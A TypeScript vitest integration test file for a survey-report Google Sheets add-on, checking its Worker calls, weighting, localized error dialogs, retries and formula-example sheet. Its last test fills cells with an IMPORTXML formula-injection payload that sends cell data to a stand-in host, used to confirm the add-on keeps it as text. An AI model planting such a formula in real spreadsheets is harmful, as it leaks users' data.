/**
 * Regenerate report, Settings, About and the examples sheet as plain TypeScript over a small
 * fake Platform, calling the real Worker under `wrangler dev` (its https URL routed to it), with
 * real RS256 ID tokens checked against a JWKS this test serves.
 */
import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { FORMULA_NAMES } from '../../addon/src/formulas/catalogue'
import { insertExamples } from '../../addon/src/server/examples'
import { about, onOpen } from '../../addon/src/server/menu'
import { regenerate } from '../../addon/src/server/regenerate'
import { sidebarLoad, sidebarSave } from '../../addon/src/server/sidebar'
import type { SettingsDraft } from '../../addon/src/shared/settings'
import { type LocalWorker, readSurvey, startLocalWorker } from '../../cli/index'
import {
  type Cell,
  ENGINE_VERSION,
  type Question,
  type Report,
  report,
  TABLE_IDS,
  type TableId,
  type Value,
} from '../../engine/index'
import { BINARY_CONTENT_TYPE } from '../../protocol/index'
import { buildSheets, METADATA_KEY, type SheetKind } from '../../sheets/index'
import { SyncHttp } from './apps-script/sync-http'
import { FakePlatform } from './support/fake-platform'
import { googleVars, startTestGoogle, type TestGoogle } from './support/google'
import { marginValues, sampleValues, wave2016Values } from './support/sample'
import { sentBody } from './support/sent'
import { FUNCTION_NAMES } from './support/sheets-functions'

const WORKER = 'https://sapa.test.example'
const BROKEN = 'https://broken.test.example'
const ALLOWLIST = [`${WORKER}/`, `${BROKEN}/`]
const RESPONSES = 'Жауаптар'
const NAMESAKE = 'Қызметтер рейтингі'

let google: TestGoogle
let worker: LocalWorker
let http: SyncHttp
let sample: Cell[][]
let token: string

beforeAll(async () => {
  google = await startTestGoogle()
  ;[worker, sample, token] = await Promise.all([
    startLocalWorker({ vars: googleVars(google) }),
    sampleValues(),
    google.idToken(),
  ])
  http = new SyncHttp()
}, 60_000)

afterAll(async () => {
  await Promise.all([worker?.stop(), google?.stop(), http?.stop()])
})

/**
 * A spreadsheet with the user's sheets (and any `sheets` more: a previous wave, margins) and
 * settings saved through the sidebar's function, with `settings` changed from the detected.
 */
function open(
  values: Cell[][],
  options: {
    tables?: TableId[]
    locale?: string
    sheets?: Record<string, Cell[][]>
    settings?: Partial<SettingsDraft>
  } = {},
) {
  const fake = new FakePlatform({
    http,
    token,
    routes: { [WORKER]: worker.url, [BROKEN]: google.url },
    allowlist: ALLOWLIST,
    locale: options.locale,
  })
  fake.addSheet(RESPONSES, values)
  fake.addSheet(NAMESAKE, [
    ['My own ranking', 'Note'],
    [1, '=do not parse me'],
  ])
  fake.addSheet('Notes', [['Sapa', 'is', 'a', 'guest']], [{ key: 'someone.else', value: 'keep' }])
  for (const [name, sheet] of Object.entries(options.sheets ?? {})) fake.addSheet(name, sheet)
  const app = fake.app()
  const state = sidebarLoad(app)
  const saved = sidebarSave(app, {
    ...state.settings,
    tables: options.tables ?? state.settings.tables,
    workerUrl: `${WORKER}/`,
    ...options.settings,
  })
  if (!saved.ok) throw new Error(`settings refused: ${JSON.stringify(saved)}`)
  fake.resetCalls()
  return { fake, app }
}

function run(fake: FakePlatform): Report {
  regenerate(fake.app())
  expect(fake.dialogs).toEqual([])
  return JSON.parse(fake.exchanges.at(-1)?.response ?? 'null')
}

const reportSheets = (fake: FakePlatform) =>
  fake.sheets.filter((s) => s.marks.some((m) => m.key === METADATA_KEY))
const userSheets = (fake: FakePlatform) =>
  JSON.stringify(fake.sheets.filter((s) => !s.model).map((s) => [s.name, s.values, s.marks]))

/** What a table's sheet should show: labels, rows and total, blanks for nulls. */
/** What the sheet of `kind` shows of the Worker's reply: the sheet model's values, blanks as ''. */
function expectedGrid(reply: Report, kind: SheetKind): Value[][] {
  const model = buildSheets(reply, { generatedAt: '' }).find((sheet) => sheet.table === kind)
  if (!model) throw new Error(`no ${kind} sheet for the reply`)
  return model.values.map((row) => row.map((value) => value ?? ''))
}

describe('Regenerate report on the 9,517-row sample', () => {
  let fake: FakePlatform
  let first: Report
  let before: string

  beforeAll(() => {
    ;({ fake } = open(sample))
    before = userSheets(fake)
    first = run(fake)
  })

  it('reads once, calls the Worker once with the ID token, the binary body, and says so', () => {
    expect(fake.count('workbook.values')).toBe(1)
    expect(fake.exchanges).toHaveLength(1)
    const [exchange] = fake.exchanges
    expect(exchange.url).toBe(`${WORKER}/v1/report`)
    expect(exchange.method).toBe('POST')
    expect(exchange.headers.Authorization).toBe(`Bearer ${token}`)
    expect(exchange.headers['Content-Type']).toBe(BINARY_CONTENT_TYPE)
    expect(
      Buffer.from(exchange.bytes ?? [])
        .subarray(0, 4)
        .toString(),
    ).toBe('SAPA')
    const body = sentBody(exchange)
    expect(body.rows).toBeUndefined()
    expect(body.columns[0].codes).toBeInstanceOf(Int8Array)
    expect(body.columns[0].codes).toHaveLength(9517)
    expect(body.options).toEqual({
      locale: 'kk',
      minBase: 30,
      order: 'satisfaction',
      tables: [...TABLE_IDS],
      scale: { min: 1, max: 5 },
      significance: { level: 0.05, correction: 'fdr' },
    })
    expect(exchange.status).toBe(200)
    // The sheet's columns no role reads (the number, the date, the service code and the seven
    // waiting conditions) are said in the finishing toast.
    expect(fake.toasts).toEqual([
      '9,517 жауап есептелуде…',
      `${reportSheets(fake).length} парақ жазылуда…`,
      expect.stringMatching(
        /^\d+\.\d с ішінде дайын\. Оқылмаған бағандар: 10 \(№, Сауалнама күні, Қызмет коды, …\)$/,
      ),
    ])
  })

  it('writes every table as the Worker computed it, the chapters, the Issues sheet last', () => {
    const sheets = reportSheets(fake)
    const tables = sheets.map((s) => s.model?.table)
    expect(tables).toEqual([
      ...first.tables.map((t) => t.id).filter((id) => id !== 'issues'),
      'chapters',
      'issues',
    ])
    for (const sheet of sheets) {
      if (sheet.model?.table === 'issues') continue
      const expected = expectedGrid(first, sheet.model?.table as SheetKind)
      const written = sheet.values.map((row) => row.slice(0, expected[0].length))
      expect(written.slice(0, expected.length), sheet.model?.table).toEqual(expected)
    }
    expect(sheets[0].name).toBe(`${NAMESAKE} (2)`)
    expect(fake.active).toBe(sheets[0].id)
  })

  it('a second run replaces the first: nothing accumulates, user sheets are as they were', () => {
    const firstIds = reportSheets(fake).map((s) => s.id)
    const count = fake.sheets.length
    const second = run(fake)
    expect(fake.sheets).toHaveLength(count)
    expect(reportSheets(fake).some((s) => firstIds.includes(s.id))).toBe(false)
    expect(fake.sheets.filter((s) => s.name.startsWith('Sapa '))).toEqual([])
    expect(second.tables).toEqual(first.tables)
    expect(userSheets(fake)).toEqual(before)
    expect(fake.lockHeld).toBe(false)
  })
})

describe('Only the columns the report reads are sent (issue 11)', () => {
  /** The sample's 18 role columns, service … connections (columns D–U of the sheet). */
  const read = () => sample[0].slice(3, 21)
  let values: Cell[][]
  let fake: FakePlatform
  let reply: Report
  let body: { header: Cell[]; columns: unknown[]; mapping: Record<string, string>; options: object }

  beforeAll(() => {
    // 30 columns no role reads before the sample's, 30 after: comments, codes, dates.
    const extra = (side: string, r: number) =>
      Array.from({ length: 30 }, (_, k) =>
        r === 0
          ? `Extra ${side}${k + 1}`
          : k % 3 === 0
            ? new Date(2017, 8, 1 + (r % 28))
            : `${side}${k}-${r}`,
      )
    values = sample.map((row, r) => [...extra('a', r), ...row, ...extra('b', r)])
    ;({ fake } = open(values))
    reply = run(fake)
    body = sentBody(fake.exchanges[0])
  })

  it('sends the 18 mapped columns of 88, every row, with the mapping the Worker reads them by', () => {
    expect(values[0]).toHaveLength(88)
    expect(fake.exchanges).toHaveLength(1)
    expect(body.header).toEqual(read())
    expect(body.columns).toHaveLength(18)
    for (const column of body.columns as { codes?: unknown[]; values?: unknown[] }[]) {
      expect((column.codes ?? column.values)?.length).toBe(9517)
    }
    const saved = JSON.parse(fake.store.get('sapa.settings') ?? '{}').mapping
    expect(body.mapping).toEqual(saved)
    expect(Object.values(body.mapping).sort()).toEqual([...read()].sort())
  })

  it('gets the report of the whole sheet: tables, summary, and issues on their sheet rows', () => {
    const [header, ...rows] = values
    const expected = report({ header, rows, mapping: body.mapping }, body.options)
    expect(reply.tables).toEqual(expected.tables)
    // The Worker saw only the columns sent; the columns not sent are the ones the report would
    // not have read, and the finishing toast names them.
    expect(reply.summary).toEqual({ ...expected.summary, unused: [] })
    expect(expected.summary.unused).toHaveLength(70)
    expect(fake.toasts.at(-1)).toMatch(
      /Оқылмаған бағандар: 70 \(Extra a1, Extra a2, Extra a3, …\)$/,
    )
    expect(reply.issues).toEqual(expected.issues)
    expect(reply.issues).toHaveLength(43)
  })

  it('codes a date the report reads by time value: one dictionary entry per distinct date', () => {
    // Apps Script gives a new Date per cell; here the region column holds three dates.
    const dated = values.map((row, r) => {
      const copy = [...row]
      if (r > 0) copy[30 + 5] = new Date(2017, 0, 1 + (r % 3))
      return copy
    })
    const { fake: other } = open(dated)
    run(other)
    const sent = sentBody(other.exchanges[0])
    const region = sent.header.indexOf('Өңір')
    expect(sent.columns[region].dict).toHaveLength(3)
    expect(sent.columns[region].codes).toHaveLength(9517)
  })
})

/** The sample's seven waiting-condition columns: the report's table 16, a check-all question. */
const WAITING = (header: Cell[]) => header.map(String).filter((h) => h.startsWith('Күту жағдайы'))

describe('Declared questions, the scale, significance and drivers (issues 13 and 15)', () => {
  let tenPoint: Cell[][]
  let declaration: { scale: { min: number; max: number }; questions: Question[] }

  beforeAll(async () => {
    const { header, rows } = await readSurvey('samples/survey-10point.xlsx')
    tenPoint = [header, ...rows]
    declaration = JSON.parse(readFileSync('samples/survey-10point.questions.json', 'utf8'))
  })

  it('the 10-point sample: its questions and the 1..10 scale sent, the report as one pass gives', () => {
    const { fake } = open(tenPoint, {
      settings: { questions: declaration.questions, scale: { min: 1, max: 10 } },
    })
    const reply = run(fake)
    const body = sentBody(fake.exchanges[0])
    expect(body.questions).toEqual(declaration.questions)
    expect(body.options.scale).toEqual({ min: 1, max: 10 })
    // Sent: the roles' columns and the questions' (the multi question's five), nothing else.
    const questionColumns = declaration.questions.flatMap((q) => q.headers ?? [q.header])
    for (const header of questionColumns) expect(body.header).toContain(header)
    expect(body.header).not.toContain('№')
    const [header, ...rows] = tenPoint
    const expected = report(
      { header, rows, mapping: body.mapping, questions: declaration.questions },
      body.options,
    )
    expect(reply.tables).toEqual(expected.tables)
    expect(reply.summary).toEqual({ ...expected.summary, unused: [] })
    expect(expected.summary.unused).toEqual(['№', 'Сауалнама күні', 'Қызмет коды'])
    expect(reply.summary.scale).toEqual({ min: 1, max: 10 })
    const keys = new Set(
      reply.tables.find((t) => t.id === 'questions')?.rows.map((r) => r.question),
    )
    expect([...keys].sort()).toEqual(declaration.questions.map((q) => q.key).sort())
    const distribution = reply.tables.find((t) => t.id === 'distribution')
    expect(distribution?.columns.map((c) => c.key)).toContain('p10')
    expect(reportSheets(fake).map((sheet) => sheet.model?.table)).toContain('questions')
    // Only the number, the date and the service code are left unread.
    expect(fake.toasts.at(-1)).toMatch(/Оқылмаған бағандар: 3 \(№, Сауалнама күні, Қызмет коды\)$/)
  })

  it('the 2017 sample: the waiting conditions as a check-all question, a 99 % Holm test, trust left out of the drivers', () => {
    const waiting = WAITING(sample[0])
    expect(waiting).toHaveLength(7)
    const { fake } = open(sample, {
      settings: {
        questions: [{ key: 'waiting', type: 'multi', headers: waiting }],
        significance: { level: '0.01', correction: 'holm' },
        driversExclude: ['trust'],
      },
    })
    const reply = run(fake)
    const body = sentBody(fake.exchanges[0])
    expect(body.options.significance).toEqual({ level: 0.01, correction: 'holm' })
    expect(body.options.drivers).toEqual({ exclude: ['trust'] })
    const [header, ...rows] = sample
    const expected = report(
      { header, rows, mapping: body.mapping, questions: body.questions },
      body.options,
    )
    expect(reply.tables).toEqual(expected.tables)
    // Trust keeps its correlation but has no share of the model (recommendation 16).
    const trust = reply.tables
      .find((t) => t.id === 'drivers')
      ?.rows.filter((r) => r.aspect === 'trust')
    expect(trust?.length).toBeGreaterThan(0)
    expect(trust?.every((row) => row.importance === null && typeof row.r === 'number')).toBe(true)
    expect(reply.tables.find((t) => t.id === 'rating')?.notes?.join(' ')).toMatch(/Holm|Холм/)
    expect(fake.toasts.at(-1)).toMatch(/Оқылмаған бағандар: 3 /)
  })
})

describe('A previous wave and population margins (issue 16)', () => {
  let wave2016: Cell[][]
  beforeAll(async () => {
    wave2016 = await wave2016Values()
  })

  it('the previous wave’s sheet is read once and sent beside the survey; the waves table is one pass’s', () => {
    const { fake } = open(sample, {
      sheets: { '2016': wave2016 },
      settings: { previousSheet: '2016' },
    })
    const reply = run(fake)
    expect(fake.count('workbook.values')).toBe(2)
    expect(fake.exchanges).toHaveLength(1)
    const body = sentBody(fake.exchanges[0])
    expect(body.previous.columns[0].codes).toHaveLength(wave2016.length - 1)
    expect(body.previous.mapping.service).toBe(body.mapping.service)
    const [header, ...rows] = sample
    const [previousHeader, ...previousRows] = wave2016
    const expected = report({ header, rows, mapping: body.mapping }, body.options, {
      header: previousHeader,
      rows: previousRows,
      mapping: body.previous.mapping,
    })
    expect(reply.tables).toEqual(expected.tables)
    expect(reply.summary.previous).toEqual(expected.summary.previous)
    expect(reply.tables.find((t) => t.id === 'waves')?.rows.length).toBeGreaterThan(10)
  })

  it('a previous wave without a service column: said, and nothing is sent', () => {
    // Saved while the sheet had one; its service columns were deleted since.
    const { fake } = open(sample.slice(0, 300), {
      sheets: { '2016': wave2016 },
      settings: { previousSheet: '2016' },
    })
    const sheet = fake.named('2016')
    if (sheet) sheet.values = wave2016.map((row) => row.filter((_, c) => c !== 2 && c !== 3))
    regenerate(fake.app())
    expect(fake.dialogs).toEqual([
      {
        title: 'Алдыңғы толқынды оқу мүмкін емес',
        message: expect.stringMatching(
          /^Алдыңғы толқынның «2016» парағында «Қызмет» үшін баған жоқ/,
        ),
      },
    ])
    expect(fake.exchanges).toEqual([])
  })

  it('margins from their sheet, with trimming bounds, sent as options.weighting; the raked report is one pass’s', () => {
    const { fake } = open(sample, {
      sheets: { Margins: marginValues() },
      settings: { marginsSheet: 'Margins', trim: { min: '0.3', max: '3' } },
    })
    const reply = run(fake)
    const body = sentBody(fake.exchanges[0])
    expect(Object.keys(body.options.weighting.margins)).toEqual(['region'])
    expect(Object.keys(body.options.weighting.margins.region)).toHaveLength(17)
    expect(body.options.weighting.trim).toEqual({ min: 0.3, max: 3 })
    const [header, ...rows] = sample
    const expected = report({ header, rows, mapping: body.mapping }, body.options)
    expect(reply.summary.weighting).toEqual(expected.summary.weighting)
    expect(reply.summary.weighting?.converged).toBe(true)
    expect(reply.summary.satisfaction).toEqual(expected.summary.satisfaction)
    expect(reply.tables).toEqual(expected.tables)
  })

  it('a margins sheet with bad rows: each named with its row and value, and nothing is sent', () => {
    const bad = marginValues()
    bad[2] = ['regionn', 'Алматы қ.', 0.096594]
    bad[3] = ['region', '', 0.040712]
    bad[4] = ['Өңір', 'Ақтөбе облысы', 'abc']
    bad[5] = ['region', 'Астана қ.', 0.1]
    const { fake } = open(sample.slice(0, 300), {
      sheets: { Margins: bad },
      settings: { marginsSheet: 'Margins' },
    })
    regenerate(fake.app())
    expect(fake.dialogs).toHaveLength(1)
    const [{ title, message }] = fake.dialogs
    expect(title).toBe('Бас жиынтық үлестерін оқу мүмкін емес')
    expect(message).toContain('«Margins» парағы: ')
    expect(message).toContain('3-жол: «regionn» салмақтауға болатын рөл емес')
    expect(message).toContain('4-жол: санат жоқ')
    expect(message).toContain('5-жол: «abc» үлес емес')
    expect(message).toContain('6-жол: «Астана қ.» region үшін екі рет берілген')
    expect(message).toMatch(/region үлестерінің қосындысы 1 емес/)
    expect(fake.exchanges).toEqual([])
  })

  it('margins the Worker refuses (a region with no respondents): its message, titled for the margins', () => {
    const extra = [...marginValues(), ['region', 'Байқоңыр', 0]]
    const { fake } = open(sample.slice(0, 300), {
      sheets: { Margins: extra },
      settings: { marginsSheet: 'Margins' },
    })
    regenerate(fake.app())
    expect(fake.dialogs).toEqual([
      {
        title: 'Sapa сауалнаманы үлестерге сәйкес салмақтай алмайды',
        message: expect.stringMatching(/Ештеңе өзгерген жоқ\.$/),
      },
    ])
    expect(reportSheets(fake)).toEqual([])
  })
})

describe('A failure leaves the previous report as it was, and says why', () => {
  let fake: FakePlatform

  beforeAll(() => {
    ;({ fake } = open(sample.slice(0, 3001)))
    run(fake)
  })

  const settings = () => JSON.parse(fake.store.get('sapa.settings') ?? '{}')
  function patch(values: Record<string, unknown>) {
    fake.store.set('sapa.settings', JSON.stringify({ ...settings(), ...values }))
  }

  function expectUntouched(dialog: { title: RegExp; message: RegExp }) {
    const before = JSON.stringify(fake.sheets)
    fake.dialogs.length = 0
    regenerate(fake.app())
    expect(fake.dialogs).toEqual([
      {
        title: expect.stringMatching(dialog.title),
        message: expect.stringMatching(dialog.message),
      },
    ])
    expect(JSON.stringify(fake.sheets)).toEqual(before)
    expect(fake.lockHeld).toBe(false)
  }

  it('Worker 500: its message and request id', () => {
    patch({ workerUrl: `${BROKEN}/fail-500` })
    expectUntouched({ title: /HTTP 500/, message: /Internal error \(request req-test-500\)/ })
  })

  it('Worker timeout', () => {
    patch({ workerUrl: `${BROKEN}/slow` })
    fake.timeoutMs = 300
    try {
      expectUntouched({ title: /жауап бермеді/, message: /Timeout/ })
    } finally {
      fake.timeoutMs = 60_000
    }
  })

  it('malformed JSON', () => {
    patch({ workerUrl: `${BROKEN}/garbled` })
    expectUntouched({ title: /бүлінген жауап/, message: /жарамды JSON емес/ })
  })

  it('401: a token the Worker does not trust, with what to ask the administrator', async () => {
    patch({ workerUrl: WORKER })
    fake.token = await google.idToken({}, { foreignKey: true })
    try {
      expectUntouched({ title: /қабылдамады/, message: /token signature invalid.*ALLOWED_EMAILS/ })
    } finally {
      fake.token = token
    }
  })

  it('no identity token: nothing is sent (never "Bearer null")', () => {
    fake.token = null
    const sent = fake.exchanges.length
    try {
      expectUntouched({ title: /Google кіру токені жоқ/, message: /openid/ })
      expect(fake.exchanges).toHaveLength(sent)
    } finally {
      fake.token = token
    }
  })

  it('a missing column: the Worker’s message names it', () => {
    patch({ workerUrl: WORKER, mapping: { service: 'Қызмет коды', overall: 'Баға 2017' } })
    expectUntouched({ title: /жауаптарды оқи алмайды/, message: /"Баға 2017"/ })
  })

  it('a saved URL the build does not allow, or this computer’s: refused before any call', () => {
    const sent = fake.exchanges.length
    patch({ workerUrl: 'https://elsewhere.example.com', mapping: settings().mapping })
    expectUntouched({ title: /пайдалану мүмкін емес/, message: /urlFetchWhitelist/ })
    patch({ workerUrl: 'http://127.0.0.1:8787' })
    expectUntouched({ title: /пайдалану мүмкін емес/, message: /https:\/\// })
    expect(fake.exchanges).toHaveLength(sent)
  })

  it('another run holds the lock: nothing is read', () => {
    patch({ workerUrl: WORKER })
    fake.lockBusy = true
    fake.resetCalls()
    try {
      expectUntouched({ title: /бос емес/, message: /қазір құрылып жатыр/ })
      expect(fake.count('workbook.values')).toBe(0)
    } finally {
      fake.lockBusy = false
    }
  })
})

describe('A proxy’s 502/503/504 is sent again, 3 attempts in all', () => {
  it('two 503s then the Worker: the report is written, after waits of 100 and 200 ms', () => {
    const { fake } = open(sample.slice(0, 500))
    fake.proxyAnswers.push({ path: '/v1/report', status: 503 }, { path: '/v1/report', status: 502 })
    regenerate(fake.app())
    expect(fake.dialogs).toEqual([])
    expect(fake.exchanges.map((e) => e.status)).toEqual([503, 502, 200])
    expect(fake.sleeps).toEqual([100, 200])
    expect(reportSheets(fake).length).toBeGreaterThan(0)
  })

  it('three 504s: the third is the answer, and nothing is changed', () => {
    const { fake } = open(sample.slice(0, 500))
    for (let i = 0; i < 4; i++) fake.proxyAnswers.push({ path: '/v1/report', status: 504 })
    regenerate(fake.app())
    expect(fake.exchanges).toHaveLength(3)
    expect(fake.dialogs).toEqual([
      { title: 'Sapa Worker қатесі (HTTP 504)', message: 'HTTP 504 Ештеңе өзгерген жоқ.' },
    ])
    expect(reportSheets(fake)).toEqual([])
  })
})

describe('The add-on speaks the spreadsheet’s language, or the report language saved', () => {
  it('menu, toasts and dialogs in Russian for a ru_RU spreadsheet', () => {
    const fake = new FakePlatform({ http, token, locale: 'ru_RU' })
    fake.addSheet(RESPONSES, sample.slice(0, 10))
    onOpen(fake.app(), { authMode: 'LIMITED' })
    expect(fake.menus[0]).toEqual([
      ['Пересоздать отчёт', 'menuRegenerate'],
      ['Настройки', 'menuSettings'],
      ['Вставить примеры формул', 'menuExamples'],
      null,
      ['О Sapa', 'menuAbout'],
    ])
    regenerate(fake.app())
    expect(fake.dialogs).toEqual([
      {
        title: 'Sapa не настроена',
        message: 'Откройте Sapa › Настройки, проверьте столбцы и введите адрес Worker.',
      },
    ])
  })

  it('the report language saved in Settings wins; AuthMode.NONE uses the user’s locale only', () => {
    const { fake } = open(sample.slice(0, 10), { locale: 'ru_RU' })
    patchLocale(fake, 'en')
    onOpen(fake.app(), { authMode: 'LIMITED' })
    expect(fake.menus[0]?.[0]).toEqual(['Regenerate report', 'menuRegenerate'])
    fake.userLocale = 'kk'
    fake.resetCalls()
    onOpen(fake.app(), { authMode: 'NONE' })
    expect(fake.menus[1]?.[0]).toEqual(['Есепті қайта құру', 'menuRegenerate'])
    expect(fake.calls).toEqual(['userLocale', 'ui.addonMenu'])
  })
})

function patchLocale(fake: FakePlatform, locale: string) {
  const saved = JSON.parse(fake.store.get('sapa.settings') ?? '{}')
  fake.store.set('sapa.settings', JSON.stringify({ ...saved, locale }))
}

describe('About and Insert formula examples', () => {
  it('About shows the add-on’s engine and the Worker’s, asking the Worker once a minute', () => {
    const { fake } = open(sample.slice(0, 100))
    about(fake.app())
    about(fake.app())
    expect(fake.dialogs).toEqual([
      {
        title: 'Sapa туралы',
        message: `Қондырманың қозғалтқышы ${ENGINE_VERSION}\nWorker ${WORKER}: қозғалтқыш ${ENGINE_VERSION}`,
      },
      {
        title: 'Sapa туралы',
        message: `Қондырманың қозғалтқышы ${ENGINE_VERSION}\nWorker ${WORKER}: қозғалтқыш ${ENGINE_VERSION}`,
      },
    ])
    expect(fake.exchanges.map((e) => e.url)).toEqual([`${WORKER}/v1/health`])
  })

  it('one sheet of worked formulas, replaced when asked again; every function is the add-on’s or a built-in', () => {
    const { fake } = open(sample.slice(0, 300))
    insertExamples(fake.app())
    insertExamples(fake.app())
    const examples = fake.sheets.filter((s) => s.marks.some((m) => m.key === 'sapa.examples'))
    expect(examples).toHaveLength(1)
    const [sheet] = examples
    expect(sheet.name).toBe('Sapa формулалары')
    expect(sheet.examples?.heading).toBe(`«${RESPONSES}» бойынша Sapa формулалары`)
    const formulas = sheet.examples?.rows.map((r) => r.formula).filter(Boolean) ?? []
    expect(formulas).toContain(`=SATISFACTION('${RESPONSES}'!J2:J)`)
    expect(formulas).toContain(`=RESPONDENTS('${RESPONSES}'!J2:J)`)
    expect(formulas).toContain(
      `=MEAN_SCORE(FILTER('${RESPONSES}'!J2:J, '${RESPONSES}'!G2:G="Мемлекеттік корпорация (ХҚКО)"))`,
    )
    expect(formulas.some((f) => /^=KEY_DRIVERS\(\{.*\}, .*, "kk"\)$/.test(f))).toBe(true)
    expect(formulas.at(-1)).toBe(`=RATING('${RESPONSES}'!D2:D, '${RESPONSES}'!J2:J, 30, "kk")`)
    expect(formulas).toContain(`=MEAN_CI('${RESPONSES}'!J2:J)`)
    const ours = new Set<string>(FORMULA_NAMES)
    for (const formula of formulas) {
      // Every NAME( outside quoted text: the add-on's, or a Sheets built-in (FILTER).
      const code = formula.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, '')
      for (const [, name] of code.matchAll(/([A-Z][A-Z0-9_.]*)\(/g)) {
        expect(ours.has(name) || FUNCTION_NAMES.has(name), `${name} in ${formula}`).toBe(true)
      }
    }
    expect(fake.dialogs).toEqual([])
  })

  it('on a scale other than 1..5 every formula gets it as its last argument, and the labels say its points', () => {
    const { fake } = open(sample.slice(0, 300), { settings: { scale: { min: 1, max: 10 } } })
    insertExamples(fake.app())
    const rows = fake.sheets.find((s) => s.examples)?.examples?.rows ?? []
    const o = `'${RESPONSES}'!J2:J`
    const byLabel = Object.fromEntries(rows.filter((r) => r.label).map((r) => [r.label, r.formula]))
    expect(byLabel['Қанағаттанушылық («10» үлесі)']).toBe(`=SATISFACTION(${o}, , , "1..10")`)
    expect(byLabel['«9» және «10» үлесі (top-2)']).toBe(`=TOP2BOX(${o}, , "1..10")`)
    expect(byLabel['1..10 бағаларының бөлінуі (10 ұяшыққа жайылады)']).toBe(
      `=DISTRIBUTION(${o}, , "1..10")`,
    )
    expect(byLabel['Қанағаттанушылық, top-2 анықтамасы']).toBe(
      `=SATISFACTION(${o}, "top2", , "1..10")`,
    )
    expect(rows.at(-1)?.formula).toBe(`=RATING('${RESPONSES}'!D2:D, ${o}, 30, "kk", "1..10")`)
    for (const { formula } of rows.filter((r) => r.formula)) expect(formula).toMatch(/"1\.\.10"\)$/)
  })

  it('labels that start like a formula are passed on as they are (the writer keeps them text)', () => {
    const values = sample.slice(0, 300).map((row) => [...row])
    const channel = values[0].indexOf('Қызмет алынған орын')
    expect(channel).toBeGreaterThan(0)
    for (let r = 1; r < values.length; r++)
      values[r][channel] = '=IMPORTXML("https://x.example/?"&A1, "//a")'
    const { fake } = open(values)
    insertExamples(fake.app())
    const rows = fake.sheets.find((s) => s.examples)?.examples?.rows ?? []
    expect(rows.map((r) => r.label)).toContain(
      'Қанағаттанушылық: =IMPORTXML("https://x.example/?"&A1, "//a")',
    )
    expect(rows.map((r) => r.formula)).toContain(
      `=SATISFACTION(FILTER('${RESPONSES}'!J2:J, '${RESPONSES}'!G2:G="=IMPORTXML(""https://x.example/?""&A1, ""//a"")"))`,
    )
  })
})
